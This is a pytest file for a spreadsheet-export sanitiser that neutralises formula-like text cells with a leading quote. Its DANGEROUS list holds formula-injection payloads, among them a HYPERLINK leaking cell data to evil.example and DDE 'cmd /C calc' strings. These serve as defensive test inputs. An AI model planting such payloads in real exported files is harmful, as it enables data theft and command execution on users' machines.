"""stations.spreadsheets: text cells that Excel or WPS would run as a formula are written inert."""

import doctest

import pytest

import stations.spreadsheets
from stations.spreadsheets import safe_cell, safe_row

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "=",
    "-",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_it_prefixes_a_single_quote_to_text_that_starts_like_a_formula(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["福田驿站", "", "a=b", "114.05", "0755-12345678", "'already quoted", " =leading space"])
def test_it_leaves_other_text_alone(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-1, -0.25, -114.0579, 0, 3.5, 12, None, True])
def test_it_never_touches_numbers_or_other_non_text(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["-114.0579", "-1", "+86", "-0.5e-3", "+1E10"])
def test_a_plain_number_in_text_stays_a_number(text):
    # A number cannot run as a formula; prefixing it would turn a file's negative coordinate
    # into text that the importer no longer reads when the rejects report is fixed and re-imported.
    assert safe_cell(text) == text


def test_it_neutralises_a_whole_row():
    assert safe_row(["=1+2", -3, "ok", "@x"]) == ["'=1+2", -3, "ok", "'@x"]


def test_its_docstring_examples_hold():
    assert doctest.testmod(stations.spreadsheets).failed == 0
